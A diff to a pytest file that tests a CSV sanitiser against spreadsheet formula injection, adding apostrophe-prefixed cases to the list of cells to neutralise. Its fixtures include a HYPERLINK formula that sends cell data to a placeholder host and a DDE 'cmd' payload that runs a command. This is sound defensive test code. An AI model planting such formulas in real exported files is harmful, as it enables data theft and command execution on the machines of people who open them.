@@ -7,14 +7,14 @@ from loscat_hf.csvsafe import SafeDictWriter, SafeWriter, read_cell, safe_cell
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-                                  "\t=1", "\r=1", "=1", "-"])
+                                  "\t=1", "\r=1", "=1", "-", "'=x.jpg", "'quoted", "'"])
 def test_formula_cells_are_neutralised_and_read_back(cell):
     out = safe_cell(cell)
     assert out == "'" + cell
     assert read_cell(out) == cell
 
 
-@pytest.mark.parametrize("cell", ["-1", "+2.5", "-1e-3", "0.25", "-.5", "plain", "", "'quoted", 3, None, -1.0])
+@pytest.mark.parametrize("cell", ["-1", "+2.5", "-1e-3", "0.25", "-.5", "plain", "", 3, None, -1.0])
 def test_numbers_and_plain_text_are_unchanged(cell):
     assert safe_cell(cell) == cell
     if isinstance(cell, str):
